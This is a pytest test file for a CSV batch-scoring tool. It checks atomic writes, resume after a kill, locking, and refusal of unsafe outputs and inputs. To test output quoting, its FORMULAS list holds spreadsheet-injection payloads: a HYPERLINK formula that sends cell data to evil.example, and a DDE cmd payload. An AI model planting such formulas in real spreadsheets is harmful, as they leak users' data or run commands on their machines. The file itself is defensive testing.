"""batch.py never destroys data: the input is never an output, writes are atomic, one writer at a time,
unwritable targets are one line, a killed run resumes to the same CSV, empty values are empty.

Machinery tests: the inputs, flags and expected answers come from the pipeline's contract (conftest's helpers), so
they pass on a fork's pipeline too."""

import csv
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from conftest import (
    answers,
    changed_flags,
    expected_example,
    flag_variants,
    labelled_mix,
    labelled_row,
    relabelled,
    slow_pipeline,
    text_field,
    with_text,
    write_rows,
)
from test_batch import EXPECTED, LABEL, TICKETS, cells, numbered, options, read, read_back, run_cli, write_csv

import batch
import model
from building import contract, files
from loop import edge_cases
from reporting import reports

ROOT = model.ROOT


BIG = 480


@pytest.fixture
def big_csv(tmp_path):
    """A few hundred labelled rows (the pipeline's labelled set, repeated): long enough to kill a run in the middle."""
    return write_rows(tmp_path / "big.csv", cells(labelled_mix(BIG), ticket_id=[f"t{i}" for i in range(BIG)]))


@pytest.fixture
def slow(tmp_path) -> dict:
    """The environment of a run whose pipeline takes 5 ms an input at least (conftest's slow_pipeline), so that a run
    of BIG rows is still going when a test kills or stops it, however fast the pipeline itself is."""
    return {**os.environ, **slow_pipeline(tmp_path, 0.005)}


def start_cli(*args, env: dict | None = None) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "batch.py", *map(str, args)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env
    )


def wait_for(condition, timeout=120.0):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if condition():
            return
        time.sleep(0.02)
    raise TimeoutError("condition not met")


# --- the input is never touched ------------------------------------------------------------------
@pytest.mark.parametrize("alias", ["same", "dot-dot", "symlink", "hardlink", "json-sibling"])
def test_output_that_is_the_input_exits_2_and_touches_nothing(tmp_path, alias):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    before = source.read_bytes()
    (tmp_path / "sub").mkdir()
    output = {
        "same": source,
        "dot-dot": tmp_path / "sub" / ".." / "x.csv",
        "symlink": tmp_path / "link.csv",
        "hardlink": tmp_path / "hard.csv",
        "json-sibling": None,  # set below
    }[alias]
    if alias == "symlink":
        output.symlink_to(source)
    if alias == "hardlink":
        os.link(source, output)
    given = source
    if alias == "json-sibling":  # the input is the summary's name: report x.csv would write x.json over it
        given = tmp_path / "x.json"
        given.write_bytes(before)
        output = tmp_path / "x.csv"
        source = given
    result = run_cli(given, "-o", output, "--quiet")
    assert result.returncode == 2, result.stderr
    assert "the input is never overwritten" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert source.read_bytes() == before


@pytest.mark.parametrize("where", ["folder", "parent-is-a-file", "read-only-filesystem"])
def test_unwritable_targets_exit_2_with_one_line(tmp_path, where):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    (tmp_path / "a-file").write_text("x")
    output = {"folder": tmp_path, "parent-is-a-file": tmp_path / "a-file" / "out.csv", "read-only-filesystem": "/proc/triage/out.csv"}[
        where
    ]
    result = run_cli(source, "-o", output, "--quiet")
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("batch.py: error:") and "Traceback" not in result.stderr, result.stderr


def test_check_file_reads_only_the_head(tmp_path, monkeypatch):
    path = write_csv(tmp_path / "x.csv", TICKETS)
    monkeypatch.setattr(type(path), "read_bytes", lambda self: pytest.fail("read the whole file"))
    assert batch.check_file(path) == path


def test_without_a_progress_bar_the_input_is_not_counted_first(tmp_path, monkeypatch):
    path = write_csv(tmp_path / "x.csv", TICKETS)
    monkeypatch.setattr(batch, "count_rows", lambda path: pytest.fail("read the input again for a bar nobody sees"))
    summary = batch.report(path, tmp_path / "out.csv", progress=False, html_report=False)
    assert summary["rows"] == len(TICKETS)


# --- atomic output, one writer -------------------------------------------------------------------
def test_a_killed_run_leaves_the_previous_report_and_resume_gives_the_uninterrupted_csv(big_csv, tmp_path, slow):
    out = tmp_path / "out.csv"
    reference = tmp_path / "reference.csv"
    compare = options("--compare", changed_flags())
    assert run_cli(big_csv, "-o", reference, "--quiet", "--chunk-size", "32", *compare).returncode == 0

    previous = run_cli(big_csv, "-o", out, "--quiet", "--limit", "5")  # an older, complete report under the final name
    assert previous.returncode == 0
    old = {suffix: out.with_suffix(suffix).read_bytes() for suffix in (".csv", ".json", ".html")}

    state = tmp_path / "out.csv.partial.json"
    process = start_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "32", *compare, env=slow)
    wait_for(lambda: state.exists() and json.loads(state.read_text())["rows_done"] >= 96)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    assert {suffix: out.with_suffix(suffix).read_bytes() for suffix in old} == old  # the previous report, untouched
    done = json.loads(state.read_text())["rows_done"]
    assert 96 <= done < BIG and done % 32 == 0

    resumed = run_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "32", *compare, "--resume")
    assert resumed.returncode == 0, resumed.stderr
    assert out.read_bytes() == reference.read_bytes()  # no row lost, duplicated or changed
    summary = json.loads(out.with_suffix(".json").read_text())
    assert summary["resumed_from_row"] == done and summary["rows"] == BIG  # the killed run's rows were not scored again
    assert summary["metrics"] == json.loads(reference.with_suffix(".json").read_text())["metrics"]
    assert not (tmp_path / "out.csv.partial").exists() and not state.exists()


def test_resume_after_the_input_changed_starts_over(big_csv, tmp_path, slow):
    out = tmp_path / "out.csv"
    state = tmp_path / "out.csv.partial.json"
    process = start_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "32", env=slow)
    wait_for(lambda: state.exists())
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    write_csv(big_csv, TICKETS)  # another input under the same name
    resumed = run_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "32", "--resume")
    assert resumed.returncode == 0 and "cannot resume (input changed" in resumed.stderr, resumed.stderr
    assert len(read(out)) == len(TICKETS)


def test_two_writers_of_one_output_one_exits_2_and_the_report_is_whole(big_csv, tmp_path, slow):
    out = tmp_path / "out.csv"
    first = start_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "64", env=slow)
    wait_for(lambda: (tmp_path / ".out.csv.lock").exists())
    time.sleep(0.5)
    first.send_signal(signal.SIGSTOP)  # the first writer stays in the middle of its run while the second one starts
    try:
        second = run_cli(big_csv, "-o", out, "--quiet", "--chunk-size", "64")
    finally:
        first.send_signal(signal.SIGCONT)
    assert second.returncode == 2 and "another run is writing this report" in second.stderr, second.stderr
    assert first.wait(timeout=300) == 0
    scored = read(out)
    assert list(scored.ticket_id) == [f"t{i}" for i in range(BIG)] and (scored.error == "").all()
    assert json.loads(out.with_suffix(".json").read_text())["rows"] == BIG
    assert not (tmp_path / ".out.csv.lock").exists()  # the lock goes with the run: nothing empty is left beside the report


def test_empty_values_are_empty_not_nan(tmp_path):
    """An output that is None is an empty cell (every column of it), never nan or None; a bool is True or False."""
    rows = labelled_mix(24)
    given = [r["input"] for r in rows]
    empty = (f for f in flag_variants() if any(None in a.model_dump(exclude={"trace"}).values() for a in answers(given, f)))
    flags = next(empty, None)  # the first flags (the defaults, say) under which some answer leaves an output empty
    if flags is None:
        pytest.skip("no answer to the labelled rows leaves an output empty, under any flags")
    source = write_csv(tmp_path / "x.csv", rows)
    result = run_cli(source, "-o", tmp_path / "out.csv", "--quiet", *options("--flag", flags))
    assert result.returncode == 0, result.stderr
    scored = read_back(tmp_path / "out.csv").to_dict("records")
    empty = 0
    for answer, row in zip(answers(given, flags), scored, strict=True):
        for name, value in answer.model_dump(mode="json", exclude={"trace"}).items():
            columns = reports.field_columns()[name]
            if value is None:
                empty += 1
                assert all(row[c] == "" for c in columns), (name, row)
            elif isinstance(value, bool):
                assert row[name] == str(value), (name, row)
    assert empty > 0
    assert not [cell for cell in raw_cells(tmp_path / "out.csv") if cell.strip().lower() in ("nan", "none", "null")]


def test_merge_is_atomic_and_refuses_a_shard_as_output(tmp_path):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    shard = tmp_path / "s.csv"
    batch.report(source, shard, progress=False, html_report=False)
    with pytest.raises(batch.BatchInputError, match="never overwritten"):
        batch.merge([shard], shard)
    with pytest.raises(batch.BatchInputError, match="cannot merge"):
        batch.merge([shard, tmp_path / "missing.csv"], tmp_path / "merged.csv")
    assert not (tmp_path / "merged.csv").exists() and not (tmp_path / "merged.csv.partial").exists()


# --- issue 15: spreadsheet formulas, a resume state that lies, own files as input, devices, NULs, repeated columns ----
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Refund here")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0958 my card was charged twice",
    "-5 stars, the parcel never arrived",
    "@SUM(1+1) where is my order",
    "\tI cannot log in",
    "\rmy password reset fails",
    "'=already quoted by the customer",  # the user's own quote is data: kept, and quoted once more on the way out
]


@pytest.fixture
def formula_csv(tmp_path):
    """Inputs whose text and a note column (named like a formula too) a spreadsheet would run, each misclassified (its
    expected answer one the pipeline does not give), then plain labelled rows."""
    text = text_field()
    formulas = [labelled_row({**TICKETS[i % 8]["row"], text: formula}) for i, formula in enumerate(FORMULAS)]
    rows = cells(relabelled(formulas, right=False), **{"=note": ["=1+1"] * len(FORMULAS)}) + cells(TICKETS, **{"=note": ["-note"] * 8})
    return write_rows(tmp_path / "formulas.csv", rows)


def raw_cells(path) -> list[str]:
    """Every cell of a CSV as a spreadsheet would see it, header included."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def a_number(cell: str) -> bool:
    """A cell a spreadsheet reads as a number (-2.5, say): written as it is (files.spreadsheet_safe)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_runs_no_formula(path):
    live = [cell for cell in raw_cells(path) if cell.startswith(files.FORMULA_STARTS) and not a_number(cell)]
    assert not live, live[:3]


def test_formulas_are_quoted_in_the_scored_csv_and_read_back_exactly(formula_csv, tmp_path):
    before = formula_csv.read_bytes()
    summary = batch.report(formula_csv, tmp_path / "out.csv", progress=False)
    assert formula_csv.read_bytes() == before  # the user's input is never changed
    assert_runs_no_formula(tmp_path / "out.csv")
    cells = raw_cells(tmp_path / "out.csv")
    assert "'" + FORMULAS[0] in cells and "''=already quoted by the customer" in cells and "'=note" in cells
    given = read(formula_csv)  # the input as read: nothing stripped from it
    back = pd.concat(batch.read_report(tmp_path / "out.csv", 5))
    text = text_field()
    assert list(back.columns[: len(given.columns)]) == list(given.columns) and "=note" in given.columns
    assert list(back[text]) == list(given[text]) and list(back["=note"]) == list(given["=note"])
    assert back[text][7] == "'=already quoted by the customer"
    listed = {row[text] for row in summary["misclassified_rows"]}  # the summary quotes the inputs as they were
    assert FORMULAS[0] in listed and not any(text.startswith("'=HYP") for text in listed)


def test_sharded_merge_and_baseline_read_the_quoted_reports_back(formula_csv, tmp_path):
    whole = batch.report(formula_csv, tmp_path / "whole.csv", progress=False, html_report=False)
    shards = [tmp_path / f"{k}-of-3.csv" for k in (1, 2, 3)]
    batch.split(formula_csv, shards)
    for shard in shards:
        batch.report(shard, shard.with_suffix(".scored.csv"), progress=False, html_report=False)
    merged = batch.merge([s.with_suffix(".scored.csv") for s in shards], tmp_path / "merged.csv", html_report=False)
    assert (tmp_path / "merged.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
    assert_runs_no_formula(tmp_path / "merged.csv")
    assert merged["misclassified_rows"] == whole["misclassified_rows"]

    frame = pd.concat(batch.read_report(tmp_path / "whole.csv", 100))  # an earlier version that got the first input right
    assert frame[LABEL][0] != frame[EXPECTED][0]
    frame.loc[0, LABEL] = frame[EXPECTED][0]
    with open(tmp_path / "baseline.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([files.spreadsheet_safe(cell) for cell in row] for row in [frame.columns, *frame.itertuples(index=False)])
    again = batch.report(formula_csv, tmp_path / "again.csv", progress=False, html_report=False, baseline=tmp_path / "baseline.csv")
    assert again["baseline"]["changed"] == 1 and [row[text_field()] for row in again["baseline"]["rows"]["broken"]] == [FORMULAS[0]]


def test_cases_report_quotes_formulas(tmp_path, monkeypatch):
    store = tmp_path / "cases.csv"
    monkeypatch.setenv("TRIAGE_EDGE_CASES", str(store))
    case = {"ticket": with_text(FORMULAS[1]), "expected": expected_example(), "note": "=HYPERLINK(1)", "source": "file"}
    edge_cases.save_cases([case])
    batch.cases_report(tmp_path / "edge_cases.csv")
    assert_runs_no_formula(tmp_path / "edge_cases.csv")
    back = next(batch.read_report(tmp_path / "edge_cases.csv", 10))
    text = text_field()
    assert back.note[0] == "=HYPERLINK(1)" and back[text][0] == getattr(edge_cases.load_cases(store)[0].ticket, text)


class Killed(BaseException):
    """What a kill does to a run: it stops where it is, nothing caught, nothing cleaned."""


def killed_run(source, out, monkeypatch, after_chunks=2, **options):
    """A real report stopped after `after_chunks` chunks (the pipeline 'dies' on the next one): partial and state stay."""
    real, calls = contract.run_each, []

    def run_each(tickets, flags=None, timings=None):
        calls.append(1)
        if len(calls) > after_chunks:
            raise Killed
        return real(tickets, flags, timings)

    with monkeypatch.context() as patch:
        patch.setattr(contract, "run_each", run_each)
        with pytest.raises(Killed):
            batch.report(source, out, progress=False, html_report=False, **options)
    return out.with_name(out.name + ".partial.json")


def test_resume_of_a_killed_run_with_formulas_gives_the_uninterrupted_csv(formula_csv, tmp_path, monkeypatch):
    batch.report(formula_csv, tmp_path / "reference.csv", progress=False, html_report=False, chunk_size=4)
    out = tmp_path / "out.csv"
    state = killed_run(formula_csv, out, monkeypatch, chunk_size=4)
    assert json.loads(state.read_text())["rows_done"] == 8
    summary = batch.report(formula_csv, out, progress=False, html_report=False, chunk_size=4, resume=True)
    assert summary["resumed_from_row"] == 8 and summary["rows"] == 16
    assert out.read_bytes() == (tmp_path / "reference.csv").read_bytes()
    assert_runs_no_formula(out)


def _tamper(state_path, partial, how):
    state = json.loads(state_path.read_text())
    if how == "partial-edited":  # same length, one byte changed inside what the state vouches for
        data = bytearray(partial.read_bytes())
        data[-40] = ord("X") if data[-40] != ord("X") else ord("Y")
        partial.write_bytes(bytes(data))
        return
    if how == "partial-gone":
        partial.unlink()
        return
    text = {
        "rows-plus-1000": json.dumps({**state, "rows_done": state["rows_done"] + 1000}),
        "rows-minus-4": json.dumps({**state, "rows_done": state["rows_done"] - 4}),
        "bytes-minus-1": json.dumps({**state, "bytes_done": state["bytes_done"] - 1}),
        "hash-changed": json.dumps({**state, "sha256": "0" * 64}),
        "rows-a-string": json.dumps({**state, "rows_done": "eight"}),
        "rows-a-bool": json.dumps({**state, "rows_done": True}),
        "bytes-a-list": json.dumps({**state, "bytes_done": [1, 2]}),
        "elapsed-nan": json.dumps({**state, "elapsed_s": float("nan")}),
        "no-hash": json.dumps({k: v for k, v in state.items() if k != "sha256"}),
        "a-list": json.dumps([state]),
        "torn": state_path.read_text()[:25],
        "not-json": "rows_done=8",
    }[how]
    state_path.write_text(text)


@pytest.mark.parametrize(
    "how",
    [
        "rows-plus-1000",
        "rows-minus-4",
        "bytes-minus-1",
        "hash-changed",
        "rows-a-string",
        "rows-a-bool",
        "bytes-a-list",
        "elapsed-nan",
        "no-hash",
        "a-list",
        "torn",
        "not-json",
        "partial-edited",
        "partial-gone",
    ],
)
def test_resume_never_trusts_a_state_the_partial_output_does_not_confirm(how, tmp_path, monkeypatch, capsys):
    source = write_csv(tmp_path / "x.csv", numbered(TICKETS * 2))
    batch.report(source, tmp_path / "reference.csv", progress=False, html_report=False, chunk_size=4)
    out = tmp_path / "out.csv"
    state = killed_run(source, out, monkeypatch, chunk_size=4)
    _tamper(state, tmp_path / "out.csv.partial", how)
    capsys.readouterr()
    summary = batch.report(source, out, progress=False, html_report=False, chunk_size=4, resume=True)
    err = capsys.readouterr().err
    assert err.startswith("batch.py: cannot resume (") and err.count("\n") == 1 and "starting from the first row" in err, err
    assert "resumed_from_row" not in summary and summary["rows"] == 16
    assert out.read_bytes() == (tmp_path / "reference.csv").read_bytes()


def test_resume_with_a_raised_row_count_on_the_command_line_scores_every_row(tmp_path, monkeypatch):
    source = write_csv(tmp_path / "x.csv", numbered(TICKETS * 2))
    out = tmp_path / "out.csv"
    state = killed_run(source, out, monkeypatch, chunk_size=4)
    _tamper(state, tmp_path / "out.csv.partial", "rows-plus-1000")
    result = run_cli(source, "-o", out, "--quiet", "--chunk-size", "4", "--resume")
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("\n") == 1 and "cannot resume (the partial output does not match its saved state)" in result.stderr
    assert len(read(out)) == 16 and json.loads(out.with_suffix(".json").read_text())["rows"] == 16


@pytest.mark.parametrize(("given", "extra"), [("z.csv.partial", []), ("z.csv.partial.json", ["--resume"]), (".z.csv.lock", [])])
def test_an_input_that_is_one_of_the_runs_own_files_exits_2_and_is_kept(tmp_path, given, extra):
    source = write_csv(tmp_path / given, TICKETS)
    before = source.read_bytes()
    result = run_cli(source, "-o", tmp_path / "z.csv", "--quiet", *extra)
    assert result.returncode == 2, result.stderr
    assert "the input is never overwritten" in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert source.read_bytes() == before and not (tmp_path / "z.csv").exists()


def test_an_input_hard_linked_to_the_partial_output_is_refused(tmp_path):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    before = source.read_bytes()
    os.link(source, tmp_path / "z.csv.partial")
    with pytest.raises(batch.BatchInputError, match="never overwritten"):
        batch.report(source, tmp_path / "z.csv", progress=False)
    assert source.read_bytes() == before and read(source).shape[0] == len(TICKETS)


def test_an_output_that_would_write_over_a_baselines_or_shards_summary_is_refused(tmp_path):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    batch.report(source, tmp_path / "old.csv", progress=False, html_report=False)
    before = (tmp_path / "old.json").read_bytes()
    with pytest.raises(batch.BatchInputError, match="never overwritten"):  # old.txt's summary would be old.json
        batch.report(source, tmp_path / "old.txt", progress=False, baseline=tmp_path / "old.csv")
    with pytest.raises(batch.BatchInputError, match="never overwritten"):
        batch.merge([tmp_path / "old.csv"], tmp_path / "old.txt")
    assert (tmp_path / "old.json").read_bytes() == before and not (tmp_path / "old.txt").exists()


@pytest.fixture
def dev_null_kept():
    """/dev/null stays the character device it is; should a regression replace it (as root), it is put back."""
    yield Path("/dev/null")
    if not stat.S_ISCHR(os.stat("/dev/null").st_mode) and os.geteuid() == 0:
        os.replace("/dev/null", "/tmp/replaced-dev-null")
        os.mknod("/dev/null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
        os.chmod("/dev/null", 0o666)
        pytest.fail("batch.py replaced /dev/null with a regular file (put back; the file is /tmp/replaced-dev-null)")


def test_dev_null_as_the_output_exits_2_and_stays_a_device(tmp_path, dev_null_kept):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    around = {p.name for p in Path("/dev").iterdir()}
    result = run_cli(source, "-o", "/dev/null", "--quiet")
    assert result.returncode == 2 and "/dev/null: is a device, not a regular file" in result.stderr, result.stderr
    assert result.stderr.count("\n") == 1
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert {p.name for p in Path("/dev").iterdir()} - around == set()  # no .json, .html, .partial or lock beside it


@pytest.mark.parametrize("which", ["out.csv", "out.json", "out.csv.partial", "folder-as-html"])
def test_a_fifo_or_folder_among_the_outputs_exits_2_before_anything_is_touched(tmp_path, which):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    target = tmp_path / ("out.html" if which == "folder-as-html" else which)
    target.mkdir() if which == "folder-as-html" else os.mkfifo(target)
    around = sorted(p.name for p in tmp_path.iterdir())
    result = run_cli(source, "-o", tmp_path / "out.csv", "--quiet")
    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
    assert f"{target}: is a {'folder' if which == 'folder-as-html' else 'FIFO'}" in result.stderr, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == around  # no lock, no partial, no report
    assert target.is_dir() if which == "folder-as-html" else stat.S_ISFIFO(os.stat(target).st_mode)


@pytest.mark.parametrize("link", ["out.csv", "out.json"])
def test_a_symbolic_link_among_the_outputs_exits_2_and_stays_a_link(tmp_path, link):
    """A rename replaces a link, not what it points to: as root, `-o /dev/stdout` replaced /dev's own link with a CSV."""
    source = write_csv(tmp_path / "x.csv", TICKETS)
    target = tmp_path / "elsewhere.txt"
    target.write_text("kept\n")
    (tmp_path / link).symlink_to(target)
    result = run_cli(source, "-o", tmp_path / "out.csv", "--quiet")
    assert result.returncode == 2 and f"{tmp_path / link}: is a symbolic link (to {target})" in result.stderr, result.stderr
    assert (tmp_path / link).is_symlink() and target.read_text() == "kept\n"
    assert not (tmp_path / "out.csv.partial").exists() and not (tmp_path / ".out.csv.lock").exists()


@pytest.mark.parametrize("name", ["report.html", "report.json"])
def test_an_output_named_like_its_own_html_or_json_exits_2(tmp_path, name):
    source = write_csv(tmp_path / "x.csv", TICKETS)
    result = run_cli(source, "-o", tmp_path / name, "--quiet")
    assert result.returncode == 2 and "would replace it; give a name ending in .csv" in result.stderr, result.stderr
    assert not (tmp_path / name).exists()


def test_a_nul_byte_past_the_first_4_kib_exits_2_naming_the_line(tmp_path):
    text = text_field()
    rows = [{**TICKETS[0]["row"], text: f"input number {i} of a long file"} for i in range(300)]
    rows[249][text] = "my order NUL never came"  # line 251: the header is line 1
    path = write_rows(tmp_path / "nul.csv", rows)
    path.write_bytes(path.read_bytes().replace(b" NUL ", b"\x00 "))
    assert path.read_bytes().index(b"\x00") > 4096
    result = run_cli(path, "-o", tmp_path / "out.csv", "--quiet")
    assert result.returncode == 2, result.stderr
    assert "a NUL byte on line 251" in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.partial").exists()


def test_a_nul_byte_in_the_first_lines_exits_2_naming_the_line(tmp_path):
    """README: a NUL byte anywhere stops the run with a message naming the line, in the head the first check reads too."""
    text = text_field()
    rows = [{**TICKETS[0]["row"], text: f"input number {i}"} for i in range(3)]
    path = write_rows(tmp_path / "nul.csv", rows)
    path.write_bytes(path.read_bytes().replace(b"number 1", b"number\x001"))  # line 3: the header is line 1
    result = run_cli(path, "-o", tmp_path / "out.csv", "--quiet")
    assert result.returncode == 2 and "a NUL byte on line 3" in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert not (tmp_path / "out.csv").exists()


def _repeated() -> list[tuple[str, str]]:
    text = contract.text_field() or next(iter(model.Input.model_fields))
    return [(f"{text},{EXPECTED},{text}", repr(text)), (f"note,{text},note", "'note'")]


@pytest.mark.parametrize(("header", "repeated"), _repeated())
def test_a_repeated_column_exits_2_naming_it(tmp_path, header, repeated):
    path = tmp_path / "dup.csv"
    path.write_text(f"{header}\na,b,c\n")
    result = run_cli(path, "-o", tmp_path / "out.csv", "--quiet")
    assert result.returncode == 2, result.stderr
    assert f"the column {repeated} appears more than once" in result.stderr and result.stderr.count("\n") == 1, result.stderr
